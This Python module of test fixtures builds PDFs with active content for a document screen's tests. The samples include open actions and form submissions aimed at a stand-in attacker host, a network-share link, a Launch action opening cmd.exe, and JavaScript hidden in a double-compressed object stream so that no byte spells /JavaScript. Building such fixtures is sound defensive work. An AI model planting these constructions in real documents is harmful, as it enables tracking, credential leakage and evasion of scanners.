"""PDFs with active content, each built with pypdf's writer or from raw bytes, for the screen's tests."""

import io
import zlib

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    TextStringObject,
)


def _n(value: str) -> NameObject:
    return NameObject(value)


def _dict(**entries) -> DictionaryObject:
    return DictionaryObject({_n(f"/{key}"): value for key, value in entries.items()})


def _written(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _with(catalog: dict | None = None, annotation: DictionaryObject | None = None) -> bytes:
    """A one-page document from pypdf's writer, with entries added to the catalog or one annotation."""
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    for key, value in (catalog or {}).items():
        writer._root_object[_n(key)] = value
    if annotation is not None:
        rect = ArrayObject([FloatObject(72), FloatObject(700), FloatObject(272), FloatObject(740)])
        annotation.update({_n("/Type"): _n("/Annot"), _n("/Rect"): rect})
        page[_n("/Annots")] = ArrayObject([writer._add_object(annotation)])
    return _written(writer)


def plain() -> bytes:
    return _with()


def link_to_a_website() -> bytes:
    """A link the reader follows only when clicked: passive."""
    return _with(
        annotation=_dict(Subtype=_n("/Link"), A=_dict(S=_n("/URI"), URI=TextStringObject("https://example.vn/")))
    )


def open_action_uri() -> bytes:
    return _with({"/OpenAction": _dict(S=_n("/URI"), URI=TextStringObject("https://attacker.example/track"))})


def page_open_uri() -> bytes:
    """The same, on a page's own "when opened" event."""
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    page[_n("/AA")] = _dict(O=_dict(S=_n("/URI"), URI=TextStringObject("https://attacker.example/p")))
    return _written(writer)


def submit_form() -> bytes:
    target = _dict(FS=_n("/URL"), F=TextStringObject("https://attacker.example/collect"))
    return _with(
        annotation=_dict(
            Subtype=_n("/Widget"), FT=_n("/Btn"), T=TextStringObject("gui"), A=_dict(S=_n("/SubmitForm"), F=target)
        )
    )


def goto_remote_network_path() -> bytes:
    return _with(
        annotation=_dict(
            Subtype=_n("/Link"),
            A=_dict(
                S=_n("/GoToR"),
                F=TextStringObject("\\\\attacker.example\\share\\bao-gia.pdf"),
                D=ArrayObject([FloatObject(0), _n("/Fit")]),
            ),
        )
    )


def launch() -> bytes:
    return _with({"/OpenAction": _dict(S=_n("/Launch"), F=TextStringObject("cmd.exe"))})


def import_data() -> bytes:
    return _with({"/OpenAction": _dict(S=_n("/ImportData"), F=TextStringObject("du-lieu.fdf"))})


def rich_media() -> bytes:
    return _with(annotation=_dict(Subtype=_n("/RichMedia"), RichMediaSettings=_dict()))


def xfa_form_with_script() -> bytes:
    xfa = DecodedStreamObject()
    xfa.set_data(
        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize">'
        b'<script contentType="application/x-javascript">app.alert(1)</script></event></subform>'
        b"</template></xdp:xdp>"
    )
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer._root_object[_n("/AcroForm")] = _dict(Fields=ArrayObject(), XFA=writer._add_object(xfa))
    return _written(writer)


def javascript_in_a_compressed_object_stream() -> bytes:
    """Object 5 (the open action) lives only inside object stream 6, compressed twice, and is listed only
    by a cross-reference stream: no byte of the file spells /JavaScript."""
    packed = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    header = b"5 0 "
    body = zlib.compress(zlib.compress(header + packed))
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        4: b"<< /Length 0 >>\nstream\n\nendstream",
        6: b"<< /Type /ObjStm /N 1 /First %d /Filter [/FlateDecode /FlateDecode] /Length %d >>\nstream\n%s\nendstream"
        % (len(header), len(body), body),
    }
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    offsets = {}
    for number, content in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    xref_at = len(out)
    rows = [b"\x00" + (0).to_bytes(4, "big") + b"\xff\xff"]
    for number in range(1, 8):
        if number == 5:
            rows.append(b"\x02" + (6).to_bytes(4, "big") + (0).to_bytes(2, "big"))  # in stream 6, index 0
        elif number == 7:
            rows.append(b"\x01" + xref_at.to_bytes(4, "big") + b"\x00\x00")  # the xref stream itself
        else:
            rows.append(b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00")
    table = b"".join(rows)
    out += b"7 0 obj\n<< /Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
        len(table),
        table,
    )
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return out


def unparsable() -> bytes:
    return b"%PDF-1.7\nthis is not a document at all\n%%EOF\n"


ACTIVE = {
    "OpenAction URI": open_action_uri,
    "page open URI": page_open_uri,
    "SubmitForm": submit_form,
    "GoToR to a network path": goto_remote_network_path,
    "Launch": launch,
    "ImportData": import_data,
    "RichMedia": rich_media,
    "XFA form with a script": xfa_form_with_script,
    "JavaScript in a compressed object stream": javascript_in_a_compressed_object_stream,
}
